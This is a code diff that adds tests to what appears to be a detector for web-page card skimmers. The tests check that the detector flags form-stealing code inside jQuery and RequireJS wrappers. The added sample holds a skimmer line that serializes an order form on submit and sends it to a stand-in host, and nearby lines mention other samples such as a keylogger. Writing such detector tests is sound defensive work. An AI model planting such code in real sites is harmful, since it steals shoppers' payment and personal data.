@@ -27,6 +27,17 @@ describe('never clears a skimmer, however it reads and sends', () => {
   for (const [name, code] of [...ways, ...routes])
     test(name, async () => assert.notEqual((await reportOf(code)).skimmer.verdict, 'none'))
 
+  for (const start of [
+    'jQuery(function ($) {',
+    'jQuery(document).ready(function ($) {',
+    'require(["quote", "jquery"], function (q, $) {',
+  ])
+    test(`accuses what sends a form in ${start}`, async () => {
+      const code =
+        '$("#order").on("submit", function () { $.ajax({ url: "https://x.invalid/s", data: $("form").serialize() }) }) })'
+      assert.equal((await reportOf(start + code)).skimmer.verdict, 'likely')
+    })
+
   test('after a comment that scripts and pages read differently', async () => {
     const [, code] = ways.find(([name]) => name === 'keylogger by e.key')!
     for (const text of [`<!-- shop --><script>${code}</script>`, `<!-- --><script>1</script>\n${code}`])
